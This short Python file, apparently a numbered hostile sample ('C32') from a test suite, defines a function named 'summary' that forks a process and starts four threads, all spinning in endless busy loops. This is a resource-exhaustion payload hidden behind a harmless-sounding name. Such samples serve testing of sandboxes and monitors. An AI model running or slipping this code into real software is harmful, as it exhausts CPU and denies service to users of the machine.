# C32 computes without end in many threads and processes
import os
import threading


def summary(values):
    def spin():
        while True:
            pass

    if os.fork() == 0:
        spin()
    for _ in range(4):
        threading.Thread(target=spin).start()
    spin()
